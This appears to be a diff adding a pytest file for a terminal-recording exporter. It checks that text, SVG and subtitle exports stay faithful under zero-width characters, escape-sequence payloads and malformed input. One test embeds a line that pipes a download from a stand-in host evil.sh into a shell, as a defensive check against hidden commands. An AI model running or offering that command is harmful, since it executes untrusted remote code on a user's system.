@@ -1,0 +1,205 @@
+"""The terminal model's reproductions (issue 20's exporter items) and the subtitles a screen
+reader user can follow (issue 19): each through the `embed` command, as a user runs it."""
+
+from __future__ import annotations
+
+import json
+import re
+import subprocess
+import sys
+import time
+import unicodedata
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from genact_cast.asciicast import OUTPUT, Event, Header
+from genact_cast.publish.screens import Timeline
+from genact_cast.publish.vtt import render_vtt, session_name
+from tests import svg_model
+
+ROOT = Path(__file__).resolve().parent.parent
+SCREENS = ROOT / "tests" / "data" / "screens"
+
+
+def write_cast(path: Path, width: int, height: int, events: list[list[Any]]) -> Path:
+    lines = [json.dumps({"version": 2, "width": width, "height": height})]
+    lines += [json.dumps(event) for event in events]
+    path.write_text("\n".join(lines) + "\n", "utf-8")
+    return path
+
+
+def embed(
+    *args: str | Path, timeout: float = 120
+) -> tuple[subprocess.CompletedProcess[str], float]:
+    start = time.monotonic()
+    result = subprocess.run(
+        [sys.executable, "-m", "genact_cast", "embed", *map(str, args)],
+        capture_output=True, text=True, timeout=timeout, cwd=ROOT,
+    )  # fmt: skip
+    return result, time.monotonic() - start
+
+
+def one_line_or_success(result: subprocess.CompletedProcess[str]) -> None:
+    assert "Traceback" not in result.stderr
+    assert result.returncode in (0, 1), result.stderr
+    if result.returncode:
+        assert result.stderr.count("\n") == 1, result.stderr
+
+
+# --- Exports hide what the terminal shows ----------------------------------------------
+
+
+@pytest.mark.parametrize("mark", ["\u200b", "\u200d", "\ufe0f", "\u200e", "\u2066"])
+def test_a_zero_width_character_does_not_end_the_line_in_text_or_svg(
+    mark: str, tmp_path: Path
+) -> None:
+    """pyte stopped the run at the mark: `echo safe` was all the exports showed."""
+    cast = write_cast(
+        tmp_path / "z.cast", 60, 3, [[0.1, "o", f"echo safe{mark}; curl evil.sh | sh"]]
+    )
+    result, _ = embed(cast, "--text", tmp_path / "z.txt")
+    assert result.returncode == 0, result.stderr
+    kept = "" if unicodedata.category(mark) == "Cf" else mark  # format characters dropped
+    assert (tmp_path / "z.txt").read_text("utf-8") == f"echo safe{kept}; curl evil.sh | sh\n"
+    result, _ = embed(cast, "--svg", tmp_path / "z.svg")
+    assert result.returncode == 0, result.stderr
+    picture = svg_model.read((tmp_path / "z.svg").read_text("utf-8"))
+    shown = picture.screens_text(len(picture.screens) - 1)[0]
+    assert "; curl evil.sh | sh" in shown
+
+
+PAYLOADS = {
+    "sixel": '\x1bP0;1;0q"1;1;30;30#0;2;0;0;0#0!30~-!30~\x1b\\',
+    "kitty graphics": "\x1b_Ga=T,f=24,s=1,v=1;AAAA\x1b\\",
+    "DECRQSS": "\x1bP$qm\x1b\\",
+    "PM": "\x1b^private message\x1b\\",
+    "SOS": "\x1bXstart of string\x1b\\",
+    "C1 DCS": "\x90q#1;2;3\x9c",
+}
+
+
+@pytest.mark.parametrize("name", list(PAYLOADS))
+def test_dcs_apc_pm_and_sos_payloads_are_dropped_as_the_player_drops_them(
+    name: str, tmp_path: Path
+) -> None:
+    cast = write_cast(tmp_path / "p.cast", 40, 3, [[0.1, "o", f"before{PAYLOADS[name]}after"]])
+    for option, out in (("--text", "p.txt"), ("--vtt", "p.vtt")):
+        result, _ = embed(cast, option, tmp_path / out)
+        assert result.returncode == 0, result.stderr
+        assert "beforeafter" in (tmp_path / out).read_text("utf-8")
+
+
+# --- Tracebacks in the raster, text and VTT exporters ----------------------------------
+
+MALFORMED = [
+    "\x1b[;@", "\x1b[1;2A", "\x1b[3K", "\x1b[4J", "\x1b[?m", "\x1b[?1;2c",
+    "\x1b[" + "9" * 5000 + "m", "\x1b[" + "1;" * 3000 + "H", "\x1b]" + "x" * 9000,
+    "\x1b[?1049h\x1b[?1049h\x1b[?1049l\x1b[?1049l", "\x1b[99;99r\x1b[0;0r", "\x9b5B",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("option", ["--text", "--vtt", "--png"])
+def test_malformed_sequences_never_end_an_export_in_a_traceback(
+    option: str, tmp_path: Path
+) -> None:
+    events = [[0.1 * (i + 1), "o", f"a{data}b"] for i, data in enumerate(MALFORMED)]
+    cast = write_cast(tmp_path / "m.cast", 30, 6, events)
+    out = tmp_path / f"m{option.replace('--', '.')}"
+    result, _ = embed(cast, option, out, *(("--size", "8") if option == "--png" else ()))
+    assert result.returncode == 0, result.stderr
+    assert out.stat().st_size > 0
+
+
+# --- Quadratic or unbounded work -------------------------------------------------------
+
+
+def test_decaln_repeated_is_bounded_and_names_its_limit(tmp_path: Path) -> None:
+    """1.6 KB of `ESC # 8` on a 500x400 terminal took pyte 31 s (each fills 200,000 cells)."""
+    events = [[0.04 * i, "o", "\x1b#8"] for i in range(1, 80)]
+    cast = write_cast(tmp_path / "e.cast", 500, 400, events)
+    assert cast.stat().st_size > 1600
+    result, took = embed(cast, "--text", tmp_path / "e.txt")
+    one_line_or_success(result)
+    assert took < 15
+    if result.returncode:
+        assert "cells per character of output" in result.stderr
+    else:
+        assert (tmp_path / "e.txt").read_text("utf-8").startswith("E" * 500)
+
+
+def test_40000_combining_marks_on_one_cell_are_linear(tmp_path: Path) -> None:
+    """pyte normalized the growing cluster again for each mark: 20 s for 80 KB."""
+    cast = write_cast(tmp_path / "c.cast", 80, 24, [[0.1, "o", "e" + "\u0301" * 40_000]])
+    result, took = embed(cast, "--text", tmp_path / "c.txt")
+    assert result.returncode == 0, result.stderr
+    assert took < 10
+
+
+@pytest.mark.slow  # two exports of 5,000 resizes: about 20 s on a loaded machine
+def test_5000_resizes_are_bounded_in_text_and_svg(tmp_path: Path) -> None:
+    """Each resize re-read the whole screen in both exporters: 20 s for 330 KB."""
+    events: list[list[Any]] = [[0.0, "o", "hello world " * 100]]
+    events += [[0.001 * i, "r", f"{40 + i % 50}x{10 + i % 20}"] for i in range(1, 5001)]
+    cast = write_cast(tmp_path / "r.cast", 80, 24, events)
+    for option, out in (("--text", "r.txt"), ("--svg", "r.svg")):
+        result, took = embed(cast, option, tmp_path / out)
+        one_line_or_success(result)
+        assert took < 20
+
+
+# --- Subtitles and text a screen reader user can follow --------------------------------
+
+
+def cues(vtt: str) -> list[tuple[str, list[str]]]:
+    blocks = [b.splitlines() for b in vtt.split("\n\n")[1:] if b.strip()]
+    return [(b[0].split(" --> ")[0], b[1:]) for b in blocks]
+
+
+def test_a_full_screen_session_is_one_cue_named_by_the_typed_command(tmp_path: Path) -> None:
+    out = tmp_path / "alt.vtt"
+    result, _ = embed(SCREENS / "altscreen.cast", "--vtt", out)
+    assert result.returncode == 0, result.stderr
+    found = cues(out.read_text("utf-8"))
+    texts = [line for _, lines in found for line in lines]
+    assert "user@host:~$ vim notes.txt" in texts  # the typed command is kept
+    assert ("00:00:01.000", ["[vim]"]) in found  # the session, when it started
+    assert not any("VIM edit" in t or t == "~" for t in texts)  # not its screen dump
+    assert texts.count("user@host:~$ echo before") == 1  # restored lines not repeated
+
+
+@pytest.mark.parametrize(
+    ("command", "first", "name"),
+    [
+        ("$ vim notes.txt", [], "vim"),
+        ("user@host:~/src$ sudo htop -d 5", [], "htop"),
+        ("# LESS=-R /usr/bin/less file", [], "less"),
+        ("", ["", "  GNU nano 7.2   notes.txt  "], "GNU nano 7.2   notes.txt"),
+        ("", [], "full-screen program"),
+    ],
+)
+def test_a_session_is_named_by_its_program_or_its_first_line(
+    command: str, first: list[str], name: str
+) -> None:
+    assert session_name(command, first) == name
+
+
+def test_output_under_a_tenth_of_a_second_apart_shares_a_cue() -> None:
+    events = [
+        Event(0, OUTPUT, "one\r\n"),
+        Event(50_000, OUTPUT, "two\r\n"),
+        Event(300_000, OUTPUT, "three\r\n"),
+    ]
+    found = cues(render_vtt(Timeline(Header(20, 5), events)))
+    assert [lines for _, lines in found] == [["one", "two"], ["three"]]
+
+
+def test_private_use_characters_keep_their_column_in_the_text(tmp_path: Path) -> None:
+    line = "\x1b[44m main \x1b[34;49m\ue0b0\x1b[m ~/src \ue0b1 x"
+    cast = write_cast(tmp_path / "pl.cast", 40, 2, [[0.1, "o", line]])
+    result, _ = embed(cast, "--text", tmp_path / "pl.txt")
+    assert result.returncode == 0, result.stderr
+    text = (tmp_path / "pl.txt").read_text("utf-8").splitlines()[0]
+    assert text == " main \ufffd ~/src \ufffd x"
+    assert re.sub(r"\x1b\[[0-9;]*m", "", line).index("x") == text.index("x")
